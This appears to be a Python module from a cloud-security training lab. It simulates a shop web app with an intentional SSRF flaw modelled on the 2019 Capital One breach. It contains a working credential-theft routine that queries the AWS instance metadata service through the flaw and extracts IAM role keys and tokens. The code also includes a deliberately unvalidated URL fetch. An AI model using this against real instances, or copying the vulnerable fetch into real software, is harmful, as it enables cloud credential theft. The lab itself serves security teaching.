"""The shop's web application, with an SSRF vulnerability: it fetches any address that a visitor enters.

The attack is modeled on Capital One's breach in 2019: a server was tricked into sending an outsider's request to the
instance's metadata service, and the role behind the stolen credentials could read far more than the application needed.
The vulnerability is in the application, but three AWS settings determine how useful it is to a thief: whether version 1
of the metadata service is enabled, how many network hops its tokens can travel, and what the role is allowed to do.
https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html
Stratus Red Team lists this theft as aws.credential-access.ec2-steal-instance-credentials.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qs, urlencode, urlsplit

import requests

from labs_helpers.cloud import NotModelled
from labs_helpers.course.days.day1.actors import FAR_AWAY, CreatedResources
from labs_helpers.course.shown.mistakes import checked

if TYPE_CHECKING:
    import boto3

    from labs_helpers.cloud import Cloud

METADATA = "http://169.254.169.254"
ROLES = "/latest/meta-data/iam/security-credentials/"
INSTANCE = "larkspur-web"
_PAGES = {
    "/": "Larkspur Seeds\nsweet peas 2.40 · foxglove 1.90\nSee a picture: /preview?url=…\n",
    "/health": "ok\n",
}


class Shop:
    """The running shop: `visit` sends the shop a GET request, as a browser would, and returns its response.

    There is no server. `/preview?url=…` shows a picture from anywhere on the web, so that sellers don't have to upload
    their pictures. The vulnerability is that it accepts any address. With `containers`, the application runs in a
    container, one network hop farther from the metadata service than the machine itself.
    """

    @checked
    def __init__(self, cloud: Cloud, instance: str | None = None, *, containers: bool = False) -> None:
        self._cloud = cloud
        self._instance = instance or cloud.part(CreatedResources).ids[INSTANCE]
        self._hops = 2 if containers else 1

    @checked
    def visit(self, path: str) -> str:
        """Return the shop's response to a visitor who requests a path, such as `/preview?url=http://…`.

        If the address returns nothing, the page explains why the fetch failed.
        """
        asked = urlsplit(path)
        if asked.path == "/preview":
            return self._preview(parse_qs(asked.query).get("url", [""])[0])
        return _PAGES.get(asked.path, "404 Not Found\n")

    def _preview(self, url: str) -> str:
        """Fetch an address from the shop's machine with a GET without headers, because an attacker can't forge more."""
        with self._cloud.on_instance(self._instance, hops=self._hops):
            try:
                answer = requests.get(url, timeout=2)
            except NotModelled:
                return "No picture there: no such host in this lab\n"
            except (requests.RequestException, OSError, ValueError) as error:
                return f"No picture there: {type(error).__name__}\n"
        if answer.status_code != 200:
            return f"No picture there: {answer.status_code} {answer.reason}\n"
        return answer.text

    def own_session(self) -> boto3.Session:
        """Return the session that the application itself uses, fetched with a token as SDKs do.

        Raises `LookupError` if the instance doesn't provide credentials, and `requests.RequestException` if there is no
        response.
        """
        return self._cloud.instance(self._instance).session(hops=self._hops)


def fetch_metadata(shop: Shop, path: str) -> str:
    """Return the metadata service's response for a path, requested through the shop's SSRF vulnerability."""
    return shop.visit("/preview?" + urlencode({"url": METADATA + path}))


@checked
def steal(shop: Shop) -> dict[str, Any] | None:
    """Return the role's credentials, stolen with three visits to the shop's preview, or None if that fails."""
    role = fetch_metadata(shop, ROLES).strip()
    if not role or " " in role:
        return None
    try:
        found = json.loads(fetch_metadata(shop, ROLES + role))
    except ValueError:
        return None
    if found.get("Code") != "Success":
        return None
    return {
        "AccessKeyId": found["AccessKeyId"],
        "SecretAccessKey": found["SecretAccessKey"],
        "SessionToken": found["Token"],
    }


def from_outside(cloud: Cloud) -> Any:
    """Send the calls in the block from the thief's address: `with from_outside(day.cloud):`."""
    return cloud.calling_from(FAR_AWAY)
